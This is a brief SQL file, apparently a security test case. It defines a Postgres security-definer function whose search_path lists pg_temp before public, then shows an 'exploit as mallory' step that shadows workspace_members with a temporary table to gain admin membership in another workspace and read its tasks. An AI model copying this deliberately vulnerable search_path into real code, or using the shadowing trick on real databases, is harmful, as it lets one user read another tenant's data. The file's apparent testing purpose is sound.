-- channel: temp schema
-- object: app.workspace_ids
-- says: The helper names pg_temp before public, so a caller's temporary table answers for her.
create or replace function app.workspace_ids(p_admin boolean default false)
returns setof uuid
language sql stable security definer
set search_path = pg_temp, public, auth
as $$
    select m.workspace_id
    from workspace_members as m
    join workspaces as w on w.id = m.workspace_id and not w.archived
    where m.user_id = auth.uid() and m.left_at is null and (m.role = 'admin' or not p_admin)
$$;
-- exploit as mallory
create temp table workspace_members as
select
    :org_b as workspace_id, auth.uid() as user_id,
    'admin'::text as role, null::timestamptz as left_at;
grant select on workspace_members to public;
select from public.tasks where title = 'Cut the film';
-- leaks when rows
